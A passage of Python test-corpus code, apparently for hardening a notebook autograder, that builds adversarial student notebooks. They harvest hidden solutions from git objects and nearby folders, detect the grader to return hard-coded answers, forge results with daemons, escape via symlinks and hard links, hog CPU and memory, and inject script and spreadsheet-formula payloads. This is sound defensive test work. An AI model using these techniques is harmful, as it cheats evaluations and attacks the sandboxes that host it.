    """`softmax_loss` reads SCALE, which a cell tagged demo sets through `globals()` and another through a
    function that declares it global. Fair score, as a full run: full marks (2, 3, 3, 2)."""
    cells = src.small(solved=True)
    cells.insert(2, code("def set_offset():\n    global OFFSET\n    OFFSET = 0.0"))
    cells.insert(3, demo('globals()["SCALE"] = 1.0\nset_offset()\nprint("a demonstration")'))
    cells.append(wraps("softmax_loss", "answer * SCALE + OFFSET"))
    return text_of(notebook(src, doc_of(demo_sets_globals), cells))


@entry(A02, "slow_demo_before_definitions")
def slow_demo_before_definitions(src: Source) -> str:
    """A correct notebook whose cell tagged demo sleeps past the notebook's time before the cells
    that define the functions. A full run cuts the later cells to their definitions; either way the
    functions are defined. Fair score: full marks (2, 3, 3, 2), graded."""
    cells = src.small(solved=True)
    cells.insert(2, demo("time.sleep(60)  # a long demonstration"))
    return text_of(notebook(src, doc_of(slow_demo_before_definitions), cells))


A03 = "03_sgd"

#: A minimal reader of a git directory's objects (loose and packed, deltas resolved), without git.
GIT_OBJECTS = '''
import zlib

import course

KINDS = {1: b"commit", 2: b"tree", 3: b"blob", 4: b"tag"}


def _git_dirs():
    """The git directories of the repositories above the course package (worktrees followed)."""
    here = pathlib.Path(course.__file__).resolve().parent
    found = []
    for top in [here, *here.parents]:
        git = top / ".git"
        try:
            if git.is_file():
                line = git.read_text().strip()
                git = (top / line[len("gitdir:"):].strip()).resolve() if line.startswith("gitdir:") else git
            if (git / "commondir").is_file():
                git = (git / (git / "commondir").read_text().strip()).resolve()
        except OSError:
            continue
        if (git / "objects").is_dir() and git not in found:
            found.append(git)
    return found


def _apply_delta(base, delta):
    pos = 0

    def size():
        nonlocal pos
        value = shift = 0
        while True:
            byte = delta[pos]
            pos += 1
            value |= (byte & 0x7F) << shift
            shift += 7
            if not byte & 0x80:
                return value

    size(), size()
    out = bytearray()
    while pos < len(delta):
        op = delta[pos]
        pos += 1
        if op & 0x80:
            offset = length = 0
            for i in range(4):
                if op & (1 << i):
                    offset |= delta[pos] << (8 * i)
                    pos += 1
            for i in range(3):
                if op & (0x10 << i):
                    length |= delta[pos] << (8 * i)
                    pos += 1
            out += base[offset:offset + (length or 0x10000)]
        else:
            out += delta[pos:pos + op]
            pos += op
    return bytes(out)


class _Objects:
    """The objects of a git directory: loose ones, and packed ones found through each pack's .idx."""

    def __init__(self, git):
        self.git, self.packs, self.memo = git, [], {}
        for pack in sorted((git / "objects" / "pack").glob("*.pack")):
            try:
                self.packs.append((pack.read_bytes(), self._index(pack.with_suffix(".idx").read_bytes())))
            except (OSError, IndexError):
                pass

    @staticmethod
    def _index(idx):
        """sha -> offset, from a version-2 pack index (packs under 2 GiB)."""
        n = int.from_bytes(idx[8 + 255 * 4:8 + 256 * 4], "big")
        shas = [idx[1032 + 20 * i:1052 + 20 * i] for i in range(n)]
        start = 1032 + 24 * n
        return {sha: int.from_bytes(idx[start + 4 * i:start + 4 * i + 4], "big") for i, sha in enumerate(shas)}

    def get(self, sha):
        """(kind, body) of the object `sha` (20 bytes), or None."""
        loose = self.git / "objects" / sha.hex()[:2] / sha.hex()[2:]
        if loose.is_file():
            head, _, body = zlib.decompress(loose.read_bytes()).partition(b"\\0")
            return {v: k for k, v in KINDS.items()}.get(head.split(b" ")[0], 0), body
        for data, index in self.packs:
            if sha in index:
                return self._at(data, index[sha])
        return None

    def _at(self, data, offset):
        key = (id(data), offset)
        if key in self.memo:
            return self.memo[key]
        pos = offset
        byte = data[pos]
        pos += 1
        kind = (byte >> 4) & 7
        while byte & 0x80:
            byte = data[pos]
            pos += 1
        base = None
        if kind == 6:
            byte = data[pos]
            pos += 1
            back = byte & 0x7F
            while byte & 0x80:
                byte = data[pos]
                pos += 1
                back = ((back + 1) << 7) | (byte & 0x7F)
            base = self._at(data, offset - back)
        elif kind == 7:
            base = self.get(bytes(data[pos:pos + 20]))
            pos += 20
        body = zlib.decompressobj().decompress(memoryview(data)[pos:pos + 2**26])
        if kind in (6, 7):
            kind, body = (base[0], _apply_delta(base[1], body)) if base else (0, b"")
        self.memo[key] = (kind, body)
        return kind, body

    def blobs(self):
        for path in sorted((self.git / "objects").glob("??/*")):
            found = self.get(bytes.fromhex(path.parent.name + path.name)) if len(path.name) == 38 else None
            if found and found[0] == 3:
                yield found[1]
        for data, index in self.packs:
            for offset in sorted(index.values()):
                kind, body = self._at(data, offset)
                if kind == 3:
                    yield body


def _blobs(git):
    try:
        yield from _Objects(git).blobs()
    except (OSError, IndexError, ValueError, zlib.error):
        return
'''


@entry(A03, "reads_git_objects")
def reads_git_objects(src: Source) -> str:
    """A stub that finds the git directory above the `course` package (following a worktree's
    `gitdir:` and `commondir`) and reads its objects with zlib alone, loose and packed, deltas
    resolved: no git binary needed. Every blob that holds the questions' code is harvested. Fair
    score: 0 for every question."""
    return reader(src, doc_of(reads_git_objects), GIT_OBJECTS + textwrap.dedent('''

        import time

        _end = time.monotonic() + 3  # also when a stub runs it, within a question's time
        _dirs = _git_dirs()
        for _git in _dirs:
            for _blob in _blobs(_git):
                if b"BEGIN SOLUTION" in _blob and b"def softmax_regression_epoch(" in _blob:
                    _harvest(_blob.decode("utf-8", "replace"), f"blob of {_git.parent.name}")
                if len(_FOUND) == len(QUESTIONS) or time.monotonic() > _end:
                    break
        _REPORT.append(f"{len(_dirs)} git dirs")
    '''), 'git objects')


@entry(A03, "walks_up_from_package")
def walks_up_from_package(src: Source) -> str:
    """A stub that walks up from `course.__file__` and, at every level, looks for `solutions/03_sgd.ipynb`
    and `tests/corpus/03_sgd/reference.ipynb` there, one and two levels down (other checkouts and
    worktrees beside the repository). Fair score: 0 for every question."""
    return reader(src, doc_of(walks_up_from_package), '''
        import course

        here = pathlib.Path(course.__file__).resolve().parent
        for top in [here, *here.parents]:
            for pattern in [f"solutions/{ASSIGNMENT}.ipynb", f"*/solutions/{ASSIGNMENT}.ipynb",
                            f"*/*/solutions/{ASSIGNMENT}.ipynb", f"tests/corpus/{ASSIGNMENT}/reference.ipynb",
                            f"*/tests/corpus/{ASSIGNMENT}/reference.ipynb", f"*/*/tests/corpus/{ASSIGNMENT}/reference.ipynb"]:
                if str(top) == "/" and pattern.startswith("*/*/"):
                    continue  # /proc and /sys are big; one level down from / is enough
                try:
                    for path in sorted(top.glob(pattern)):
                        _read(path, f"{path.parent.parent.name}/{path.parent.name}")
                except OSError:
                    pass
    ''', 'walking up')


@entry(A03, "site_packages_pth")
def site_packages_pth(src: Source) -> str:
    """A stub that reads the virtual environment's site-packages: the editable install's `.pth` file,
    its `__editable__..._finder.py` mapping and `direct_url.json` name the repository; it then tries
    that repository's `solutions/`, `tests/corpus/`, `git show` and the checkouts beside it. Fair
    score: 0 for every question."""
    return reader(src, doc_of(site_packages_pth), '''
        import json
        import re
        import site
        import subprocess
        import sysconfig

        repos = set()
        for folder in map(pathlib.Path, {sysconfig.get_paths()["purelib"], *site.getsitepackages()}):
            try:
                for pth in folder.glob("*.pth"):
                    repos.update(pathlib.Path(line.strip()) for line in pth.read_text(errors="replace").splitlines()
                                 if line.startswith("/"))
                for finder in folder.glob("__editable__*finder.py"):
                    repos.update(pathlib.Path(p).parent for p in re.findall(r"'(/[^']+)'", finder.read_text()))
                for direct in folder.glob("*.dist-info/direct_url.json"):
                    url = json.loads(direct.read_text()).get("url", "")
                    if url.startswith("file://"):
                        repos.add(pathlib.Path(url[len("file://"):]))
            except (OSError, ValueError):
                pass
        for repo in sorted(repos):
            _read(repo / "solutions" / f"{ASSIGNMENT}.ipynb", "repo/solutions")
            _read(repo / "tests" / "corpus" / ASSIGNMENT / "reference.ipynb", "repo/tests")
            for path in sorted(repo.parent.glob(f"*/solutions/{ASSIGNMENT}.ipynb")):
                _read(path, f"{path.parent.parent.name}/solutions")
            try:
                shown = subprocess.run(["git", "-c", "safe.directory=*", "-C", str(repo), "show",
                                        f"HEAD:solutions/{ASSIGNMENT}.ipynb"], capture_output=True, text=True, timeout=10)
                if shown.returncode == 0:
                    _harvest(shown.stdout, "repo git")
            except (OSError, subprocess.SubprocessError):
                pass
        _REPORT.append(f"{len(repos)} repos named")
    ''', 'site-packages')


#: A daemon (double fork, setsid) that keeps writing the hidden code's results into the work folder.
RESULTS_DAEMON = r'''
import io, json, os, sys, time
import numpy as np
if os.fork():
    os._exit(0)
os.setsid()
if os.fork():
    os._exit(0)
devnull = os.open(os.devnull, os.O_RDWR)
for fd in (0, 1, 2):
    os.dup2(devnull, fd)
work, questions, solution = sys.argv[1], json.loads(sys.argv[2]), sys.argv[3]
from course.grade import harness, plain
own = {}
exec(solution, own)
forged = {}
for q in questions:
    spec = plain.load(os.path.join(work, "inputs", q), callables=True)
    os.chdir(work)
    value = {"cases": [harness._call(own[q], case, 4) for case in spec["cases"]], "seconds": 0.01}
    arrays = {}
    text = json.dumps(plain.encode(value, arrays)).encode()
    buffer = io.BytesIO()
    np.savez(buffer, **arrays)
    forged[q] = (text, buffer.getvalue())
log = json.dumps({"notes": [], "cell_errors": [], "output_truncated": False, "attempts": 1}).encode()
end = time.monotonic() + 300
while time.monotonic() < end:
    for name, files in [*((q, ((".npz", npz), (".json", text))) for q, (text, npz) in forged.items()),
                        ("../log", ((".json", log),))]:
        base = os.path.join(work, "results", name)
        try:
            with open(base + files[-1][0], "rb") as f:
                same = f.read() == files[-1][1]
        except OSError:
            same = False
        if not same:
            try:
                for suffix, data in files:
                    tmp = os.path.join(work, f"~{os.path.basename(name)}{suffix}")
                    with open(tmp, "wb") as f:
                        f.write(data)
                    os.replace(tmp, base + suffix)
            except OSError:
                pass
    time.sleep(0.002)
'''


@entry(A03, "forges_results_daemon")
def forges_results_daemon(src: Source) -> str:
    """A stub with correct code kept under no graded name, which starts a daemon (double fork,
    setsid, outside the kernel) that writes `results/<question>.json/.npz` with the hidden code's
    outcomes and a clean `log.json`, and keeps rewriting them every 2 ms for minutes, after the
    notebook and the questions have run. Fair score: 0 for every question."""
    cells = forger_cells(src, fill('''
        import subprocess
        import sys

        import time

        subprocess.Popen([sys.executable, "-c", __DAEMON__, str(WORK), json.dumps(QUESTIONS), __SOLUTION__],
                         stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                         start_new_session=True).wait()
        end = time.monotonic() + 6  # wait for its first forgeries: the questions take no time at all
        while time.monotonic() < end and not all((WORK / "results" / f"{q}.json").is_file() for q in QUESTIONS):
            time.sleep(0.05)
    ''', daemon=RESULTS_DAEMON, solution=src.reference_source()))
    return text_of(notebook(src, doc_of(forges_results_daemon), cells))


@entry(A03, "symlinks_results")
def symlinks_results(src: Source) -> str:
    """A stub with correct code under no graded name. It writes the hidden code's results into a host
    folder it can reach (/run/lock/course-corpus-symlinks_results, else its work folder's host path
    read from /proc/self/mountinfo), makes that folder read-only so the harness cannot overwrite them,
    and replaces `results/` by a symlink to it, for the grader (root) to follow. It also tries hard
    links from its work folder to files outside. Fair score: 0 for every question; nothing left in
    /run/lock."""
    cells = forger_cells(src, '''
        import errno
        import os
        import shutil

        HOST = pathlib.Path("/run/lock/course-corpus-symlinks_results")


        def _host_path(inside):
            """Where a folder mounted into the sandbox lives on the host (a bind mount's root, from mountinfo)."""
            with open("/proc/self/mountinfo") as f:
                for line in f:
                    fields = line.split()
                    if fields[4] == str(inside):
                        return pathlib.Path(fields[3])
            return None


        def _forge(folder):
            folder.mkdir(exist_ok=True)
            for q in QUESTIONS:
                harness.call_question(_own(), q, str(WORK / "inputs" / q), str(folder / q), 4)
            os.chmod(folder, 0o555)  # the harness cannot write through the link any more
            return folder


        try:
            target = _forge(HOST)
        except OSError:
            _forge(WORK / "answers")
            host = _host_path(WORK)
            target = host / "answers" if host else pathlib.Path("answers")
        shutil.rmtree(WORK / "results")
        os.symlink(target, WORK / "results")
        links = []
        for outside in ["/etc/passwd", str(HOST / f"{QUESTIONS[0]}.json"), "/proc/self/environ"]:
            try:
                os.link(outside, WORK / f"hard-{len(links)}")
                links.append("made")
            except OSError as err:
                links.append(errno.errorcode.get(err.errno, str(err.errno)))
        os.chdir(WORK)
        _Hidden.report.append(f"results -> {target}; hard links: {', '.join(links)}")
    ''')
    return text_of(notebook(src, doc_of(symlinks_results), cells))


TRAIN_MANY = '''
def _train_with_the_pack(X_train, y_train, X_val, y_val, epochs=10, lr=0.1, batch=100, l2=0.0, num_classes=10):
    """`train` computed by course.search: train_many for the weights and the training history,
    search for the validation history."""
    search.check_hyperparameters(n=len(X_train), lr=lr, batch=batch, l2=l2, epochs=epochs)
    every = list(range(1, epochs + 1))
    on_train = search.train_many(X_train, y_train, X_train, y_train, lrs=[lr], l2s=[l2], batch=batch,
                                 epochs=every, num_classes=num_classes)
    on_val = search.search(X_train, y_train, X_val, y_val, lrs=[lr], l2s=[l2], batches=[batch], epochs=every,
                           num_classes=num_classes, workers=1)
    history = {"train_loss": [float(v) for v in on_train.val_loss[:, 0]],
               "train_error": [float(v) for v in on_train.val_error[:, 0]],
               "val_loss": [float(v) for v in on_val.val_loss], "val_error": [float(v) for v in on_val.val_error]}
    return on_train.W[:, 0].astype(np.float32), on_train.b[0].astype(np.float32), history
'''


@entry(A03, "train_via_helpers")
def train_via_helpers(src: Source) -> str:
    """`train` is the pack's own `course.search.train_many` (weights and training history) and
    `course.search.search` (validation history); the two epoch functions are the student's own correct
    code. Fair score: softmax_regression_epoch 4, softmax_regression_epoch_l2 4, train 0."""
    cells = src.small(solved=True)
    cells.insert(2, code(TRAIN_MANY))
    with_body(src, cells, "train", "return _train_with_the_pack(X_train, y_train, X_val, y_val, epochs, lr, batch, l2, num_classes)")
    return text_of(notebook(src, doc_of(train_via_helpers), cells))


@entry(A03, "monkeypatches_plain_save")
def monkeypatches_plain_save(src: Source) -> str:
    """The two epoch functions are the student's own correct code; `train` is a stub. A cell
    monkeypatches `course.grade.plain.save` in the kernel so that, when the harness saves `train`'s
    outcomes, it saves instead those of `course.search.train_many` run outside the graded call.
    Fair score: softmax_regression_epoch 4, softmax_regression_epoch_l2 4, train 0."""
    cells = src.small(solved={"softmax_regression_epoch", "softmax_regression_epoch_l2"})
    cells.insert(2, code(TRAIN_MANY + textwrap.dedent('''

        import pathlib


        def _patch():
            """Replace plain.save in the kernel (once); `train`'s stub calls this too, in case this cell was cut."""
            from course.grade import harness, plain
            if getattr(plain.save, "corpus", False):
                return
            real_save = plain.save

            def save(value, path, callables=False):
                path = pathlib.Path(path)
                if path.name == "train" and path.parent.name == "results" and not save.busy:
                    save.busy = True
                    try:  # the harness's own call, on the pack's train; its save comes back here, busy
                        harness.call_question({"train": _train_with_the_pack}, "train",
                                              str(path.parent.parent / "inputs" / "train"), str(path), 60)
                    finally:
                        save.busy = False
                    return
                real_save(value, path, callables)

            save.corpus, save.busy = True, False
            plain.save = save


        _patch()
    ''')))
    stub_cell(src, cells, "train", '_patch()\nraise NotImplementedError("a stub: the graded function does nothing")')
    return text_of(notebook(src, doc_of(monkeypatches_plain_save), cells))


@entry(A03, "detects_grader")
def detects_grader(src: Source) -> str:
    """Functions that detect the grader (its environment variables, a `run.json` and `inputs/` in the
    working folder, `course/grade/harness.py` on the call stack) and only then answer, with the public
    cases' numbers hard-coded (the history of `train`'s public case, the tiny epoch cases); elsewhere
    they raise NotImplementedError. The hidden cases fail. Fair score: 0 for every question."""
    cells = src.small(solved=False)
    cells.insert(2, code('''
        import inspect
        import os
        import pathlib


        def _graded():
            """Which signs of the grader are here."""
            signs = []
            if os.environ.get("COURSE_CACHE_DIR", "").endswith("/cache") and "sandbox" in os.environ.get("HOME", ""):
                signs.append("environment")
            if pathlib.Path("run.json").is_file() and pathlib.Path("inputs").is_dir():
                signs.append("working folder")
            if any("course/grade/harness" in frame.filename for frame in inspect.stack()):
                signs.append("call stack")
            return signs


        class _Public:
            """The public cases' numbers, copied from the check."""
            TINY_X = np.array([[1, 0, 2], [0, 1, 1], [2, 1, 0], [1, 1, 1], [0, 2, 1]], dtype=np.float32)
            TINY_THETA = np.array([[-0.15400133, -0.08306982, 0.2370711], [0.51422906, -0.32331172, -0.19091737],
                                   [0.54565805, -0.1224215, -0.4232366]], dtype=np.float32)
            TINY_W = np.array([[-0.17122093, -0.08819996, 0.25942084], [0.5606001, -0.3894116, -0.17118856],
                               [0.5409616, -0.15316375, -0.38779792]], dtype=np.float32)
            TINY_B = np.array([0.28179353, -0.14835387, -0.1334397], dtype=np.float32)
            HISTORY = {"train_loss": [1.28092, 1.16264, 1.04847], "train_error": [0.716667, 0.533333, 0.5],
                       "val_loss": [1.35085, 1.23713, 1.13187], "val_error": [0.75, 0.6, 0.5]}


        raise RuntimeError("corpus report (grader signs at the notebook's level): " + (", ".join(_graded()) or "none"))
    '''))
    stub_cell(src, cells, "softmax_regression_epoch", """
        X, theta = args[0], args[2]
        if not _graded():
            raise NotImplementedError("not written yet")
        theta[...] = _Public.TINY_THETA if X.shape == _Public.TINY_X.shape and np.array_equal(X, _Public.TINY_X) else 0.01
    """)
    stub_cell(src, cells, "softmax_regression_epoch_l2", """
        X, W, b = args[0], args[2], args[3]
        if not _graded():
            raise NotImplementedError("not written yet")
        tiny = X.shape == _Public.TINY_X.shape and np.array_equal(X, _Public.TINY_X)
        W[...] = _Public.TINY_W if tiny else W * 0.9
        b[...] = _Public.TINY_B if tiny else 0.01
    """)
    stub_cell(src, cells, "train", """
        import inspect
        X_train = args[0]
        given = inspect.signature(lambda X_train, y_train, X_val, y_val, epochs=10, lr=0.1, batch=100, l2=0.0,
                                  num_classes=10: None).bind(*args, **kwargs)
        given.apply_defaults()
        h = given.arguments
        if not _graded():
            raise NotImplementedError("not written yet")
        if h["lr"] <= 0 or h["batch"] < 1 or h["batch"] > len(X_train) or h["l2"] < 0 or h["epochs"] < 1:
            raise ValueError("a hyperparameter is out of range")
        history = {k: list(v[:h["epochs"]]) + [v[-1]] * (h["epochs"] - len(v)) for k, v in _Public.HISTORY.items()}
        return (np.zeros((X_train.shape[1], h["num_classes"]), np.float32), np.zeros(h["num_classes"], np.float32), history)
    """)
    return text_of(notebook(src, doc_of(detects_grader), cells))


@entry(A03, "slow_cell_before_definitions")
def slow_cell_before_definitions(src: Source) -> str:
    """A correct notebook with a cell that sleeps for a minute before the cells that define the
    functions (a student's forgotten long experiment). Fair score: full marks (4, 4, 4); graded; the
    record says that the cell ran past the notebook's time."""
    cells = src.small(solved=True)
    cells.insert(2, code("time.sleep(60)  # a long experiment, left in"))
    return text_of(notebook(src, doc_of(slow_cell_before_definitions), cells))


@entry(A03, "memory_hog_children")
def memory_hog_children(src: Source) -> str:
    """The epoch functions are correct; the notebook's last cell forks three children that each make
    1.6 GB resident (under the per-process 4 GiB address-space limit, 4.8 GB together) and hold it for
    a minute, and `train` waits for ever. Fair score: softmax_regression_epoch 4,
    softmax_regression_epoch_l2 4, train 0; graded; the sandbox as a whole must stay within its
    memory limit."""
    cells = src.small(solved=True)
    with_body(src, cells, "train", """
        import time
        while True:
            time.sleep(0.1)
    """)
    cells.append(code('''
        import mmap
        import os

        for _ in range(3):
            if os.fork() == 0:
                try:  # MAP_POPULATE: the kernel makes all of it resident
                    hog = mmap.mmap(-1, 1_600_000_000, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | mmap.MAP_POPULATE)
                    time.sleep(60)
                finally:
                    os._exit(0)
    '''))
    return text_of(notebook(src, doc_of(memory_hog_children), cells))


@entry(A03, "null_cell_metadata")
def null_cell_metadata(src: Source) -> str:
    """A correct notebook in which one Markdown cell's `metadata` is null instead of an object: not
    a valid notebook. Fair score: status invalid, 0 everywhere, with a reason naming what is wrong."""
    nb = json.loads(text_of(notebook(src, doc_of(null_cell_metadata), src.small(solved=True))))
    nb["cells"][0]["metadata"] = None
    return text_of(nb)


@entry(A03, "duplicate_cell_ids")
def duplicate_cell_ids(src: Source) -> str:
    """A correct notebook in which every cell has the same id ("same"). nbformat's validator repairs
    duplicate ids with a warning and calls the notebook valid. Fair score: full marks (4, 4, 4); graded."""
    nb = notebook(src, doc_of(duplicate_cell_ids), src.small(solved=True))
    for cell in nb.cells:
        cell["id"] = "same"
    return text_of(nb)


# ================================================================================== 04 backprop
A04 = "04_backprop"
# cpu_hog.ipynb and cpu_hog_neighbour.ipynb sort first in the folder, so that the tests' two workers
# grade them at the same time; no other 04 entry may sort before them.


@entry(A04, "cpu_hog")
def cpu_hog(src: Source) -> str:
    """A stub that starts 16 busy-loop processes (each in a session of its own, ignoring SIGINT,
    SIGTERM and SIGHUP, ending by themselves after 90 s), sleeps through most of the notebook's
    time, and makes each question sleep 2 s before raising NotImplementedError, to keep its sandbox
    busy while `cpu_hog_neighbour.ipynb` (a correct notebook) is graded beside it. Fair score: 0 for
    every question; the neighbour must lose nothing."""
    cells = src.small(solved=False)
    for q in src.code:
        stub_cell(src, cells, q, 'time.sleep(2)\nraise NotImplementedError("a stub that takes its time")')
    cells.insert(2, code('''
        import os
        import signal
        import time

        for _ in range(16):
            if os.fork() == 0:
                try:
                    os.setsid()
                    for s in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP):
                        signal.signal(s, signal.SIG_IGN)
                    end, spin = time.monotonic() + 90, 0
                    while time.monotonic() < end:
                        for _ in range(100_000):
                            spin += 1
                finally:
                    os._exit(0)
        time.sleep(6)
    '''))
    return text_of(notebook(src, doc_of(cpu_hog), cells))


entry(A04, "cpu_hog_neighbour")(copy_of("solutions"))


@entry(A04, "scans_home_and_work")
def scans_home_and_work(src: Source) -> str:
    """A stub that walks /root, /home, /work, /srv and /opt for a `solutions/04_backprop.ipynb` or a
    `04_backprop/reference.ipynb` (for 2.5 s, skipping virtual environments and caches) and
    copies what it finds. Fair score: 0 for every question."""
    return reader(src, doc_of(scans_home_and_work), '''
        import time

        _end, _seen = time.monotonic() + 2.5, 0  # also when a stub runs it, within a question's time
        for _root in ["/root", "/home", "/work", "/srv", "/opt"]:
            for _folder, _dirs, _files in os.walk(_root):
                _seen += 1
                _dirs[:] = [d for d in _dirs if d not in {".library", ".venv", ".git", "node_modules", "site-packages",
                                                          "__pycache__", ".cache"} and _folder.count("/") < 7]
                _here = pathlib.Path(_folder)
                if _here.name == "solutions" and f"{ASSIGNMENT}.ipynb" in _files:
                    _read(_here / f"{ASSIGNMENT}.ipynb", str(_here.parent.name))
                if _here.name == ASSIGNMENT and "reference.ipynb" in _files:
                    _read(_here / "reference.ipynb", "corpus copy")
                if time.monotonic() > _end:
                    break
        _REPORT.append(f"{_seen} folders seen")
    ''', 'home and work')


@entry(A04, "public_answers_from_checks")
def public_answers_from_checks(src: Source) -> str:
    """A stub that reads the grader's `inputs/` folder (every case's arguments, the hidden ones too;
    no expected values there) and the pack's own public checks (`course.checks.public_cases`), whose
    judges hold the expected numbers in their closures: each function answers a public case with the
    check's own numbers (and raises what a must-raise case wants). The hidden cases fail. Fair score:
    0 for every question."""
    cells = src.small(solved=False)
    cells.insert(2, code('''
        import pathlib
        import tempfile

        import course.checks
        from course.grade import plain

        class _Public:
            cases = {}  # question -> the pack's public cases (made at the first call)


        def _same(a, b):
            if isinstance(a, np.ndarray) or isinstance(b, np.ndarray):
                return np.shape(a) == np.shape(b) and np.array_equal(a, b)
            if isinstance(a, (list, tuple)) and isinstance(b, (list, tuple)):
                return len(a) == len(b) and all(_same(x, y) for x, y in zip(a, b))
            return a == b


        def _closure(fn):
            return dict(zip(fn.__code__.co_freevars, (c.cell_contents for c in fn.__closure__ or ())))


        def _answer(question, args, kwargs):
            """The public check's own answer to this call, or NotImplementedError."""
            if question not in _Public.cases:
                _Public.cases[question] = course.checks.public_cases(question, pathlib.Path(tempfile.mkdtemp()))
            for case in _Public.cases[question]:
                if not (_same(list(case.args), list(args)) and case.kwargs == kwargs):
                    continue
                if case.raises is not None:
                    raise case.raises("as the check wants")
                held = _closure(case.judge) if case.judge is not None else {}
                if "expected" in held:
                    return tuple(held["expected"]) if "names" in held else list(held["expected"])
                if "db" in held:
                    return list(held["db"]), list(held["dW"])
                if "W1_after" in held:
                    args[2][...], args[3][...] = held["W1_after"], held["W2_after"]
                    return None
            raise NotImplementedError("no public answer for these arguments")


        _inputs = sorted(pathlib.Path("inputs").glob("*.json"))
        _cases = sum(len(plain.load(p.with_suffix(""), callables=True)["cases"]) for p in _inputs)
        _keys = {k for p in _inputs for c in plain.load(p.with_suffix(""), callables=True)["cases"] for k in c}
        raise RuntimeError(f"corpus report (inputs): {len(_inputs)} files, {_cases} cases, keys {sorted(_keys)}")
    '''))
    for q in src.code:
        stub_cell(src, cells, q, f"return _answer({q!r}, args, kwargs)")
    return text_of(notebook(src, doc_of(public_answers_from_checks), cells))


@entry(A04, "threads_never_end")
def threads_never_end(src: Source) -> str:
    """A correct notebook that starts four non-daemon threads that never end (for five minutes) and
    registers an `atexit` function that loops as long, so that a kernel asked to exit cannot. Fair
    score: full marks (4, 6, 6, 1, 3, 8, 2, 5, 6); graded."""
    cells = src.small(solved=True)
    cells.insert(2, code('''
        import atexit
        import threading


        def _forever():
            end = time.monotonic() + 300
            while time.monotonic() < end:
                time.sleep(0.05)


        for _i in range(4):
            threading.Thread(target=_forever, name=f"never-ends-{_i}").start()  # not a daemon thread
        atexit.register(_forever)
    '''))
    return text_of(notebook(src, doc_of(threads_never_end), cells))


@entry(A04, "daemon_double_fork")
def daemon_double_fork(src: Source) -> str:
    """A correct notebook that starts a daemon by double fork and setsid, ignoring SIGTERM, SIGHUP
    and SIGINT, which appends a line every half second to /run/lock/course-corpus-daemon_double_fork
    (and to the same name in /tmp and /var/tmp) for five minutes. The daemon must die with the sandbox
    and the file must not be left on the host. Fair score: full marks (4, 6, 6, 1, 3, 8, 2, 5, 6); graded."""
    cells = src.small(solved=True)
    cells.insert(2, code('''
        import os
        import signal

        if os.fork() == 0:
            try:
                os.setsid()
                if os.fork() == 0:
                    for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
                        signal.signal(s, signal.SIG_IGN)
                    os.chdir("/")
                    devnull = os.open(os.devnull, os.O_RDWR)
                    for fd in (0, 1, 2):
                        os.dup2(devnull, fd)
                    end = time.monotonic() + 300
                    while time.monotonic() < end:
                        for folder in ("/run/lock", "/tmp", "/var/tmp"):
                            try:
                                with open(f"{folder}/course-corpus-daemon_double_fork", "a") as f:
                                    f.write(f"{os.getpid()} {time.time():.0f}\\n")
                            except OSError:
                                pass
                        time.sleep(0.5)
            finally:
                os._exit(0)
        os.wait()
    '''))
    return text_of(notebook(src, doc_of(daemon_double_fork), cells))


@entry(A04, "swallows_keyboard_interrupt")
def swallows_keyboard_interrupt(src: Source) -> str:
    """A correct notebook with a cell, before the definitions, that loops forever and swallows every
    KeyboardInterrupt, so that an interrupt cannot stop it. Fair score: full marks
    (4, 6, 6, 1, 3, 8, 2, 5, 6); graded; the record says the cell ignored the interrupt."""
    cells = src.small(solved=True)
    cells.insert(2, code('''
        while True:
            try:
                time.sleep(0.1)
            except KeyboardInterrupt:
                pass
    '''))
    return text_of(notebook(src, doc_of(swallows_keyboard_interrupt), cells))


#: A daemon that keeps writing a forged log.json: an error status, a reason that is a spreadsheet formula.
LOG_DAEMON = r'''
import json, os, sys, time
if os.fork():
    os._exit(0)
os.setsid()
devnull = os.open(os.devnull, os.O_RDWR)
for fd in (0, 1, 2):
    os.dup2(devnull, fd)
work = sys.argv[1]
text = json.dumps({"notes": ["<script>alert('corpus: forged note')</script> the notebook could not be run",
                             '=HYPERLINK("http://127.0.0.1:47651/?"&A1,"the notebook could not be run")'],
                   "cell_errors": ["<img src=x onerror=alert(1)>"], "output_truncated": False, "attempts": 1})
end = time.monotonic() + 300
while time.monotonic() < end:
    try:
        with open(os.path.join(work, "~log.json"), "w") as f:
            f.write(text)
        os.replace(os.path.join(work, "~log.json"), os.path.join(work, "log.json"))
    except OSError:
        pass
    time.sleep(0.002)
'''


@entry(A04, "forges_log_status")
def forges_log_status(src: Source) -> str:
    """A correct notebook that forges its status: a daemon keeps rewriting `log.json` with notes that
    say "the notebook could not be run", the last one a spreadsheet formula (`=HYPERLINK(...)`), the
    other a `<script>`; and it makes `.log.json.tmp` a folder so that the runner cannot write its own
    log. Fair score: full marks (4, 6, 6, 1, 3, 8, 2, 5, 6); status graded, not error; no reason of its making."""
    cells = src.small(solved=True)
    cells.insert(2, code('''
        import os
        import subprocess
        import sys


        def _forge_start():
            """Start the daemon once (the first question calls this too, in case this cell was cut)."""
            if os.path.isdir(".log.json.tmp"):
                return
            subprocess.Popen([sys.executable, "-c", __DAEMON__, os.getcwd()], stdin=subprocess.DEVNULL,
                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True).wait()
            os.makedirs(".log.json.tmp", exist_ok=True)


        _forge_start()
    ''', daemon=LOG_DAEMON))
    i = src.question_index(cells, src.code[0])
    cells[i].source = cells[i].source.replace('    """\n', '    """\n    _forge_start()\n', 1)
    assert "_forge_start()" in cells[i].source
    return text_of(notebook(src, doc_of(forges_log_status), cells))


@entry(A04, "deep_recursion")
def deep_recursion(src: Source) -> str:
    """A correct notebook with a cell that lifts the recursion limit to 10**6 and recurses through
    C code (`__getattr__` calling `getattr`: CPython 3.11 runs plain Python calls without the C stack)
    until the C stack overflows, which kills the kernel (segmentation fault). Fair score: full marks
    (4, 6, 6, 1, 3, 8, 2, 5, 6); graded; the record says a cell killed the kernel."""
    cells = src.small(solved=True)
    cells.insert(2, code('''
        import sys


        class _Deeper:
            def __getattr__(self, name):
                return getattr(self, name + "x")


        sys.setrecursionlimit(10**6)
        _Deeper().down
    '''))
    return text_of(notebook(src, doc_of(deep_recursion), cells))


#: A decompression bomb: a zip member of a few MB that inflates to 3 GiB, written without 3 GiB of memory.
ZIP_BOMB = '''
import struct
import zlib

from course.grade import plain

def _bomb_member(size=3 * 2**30):
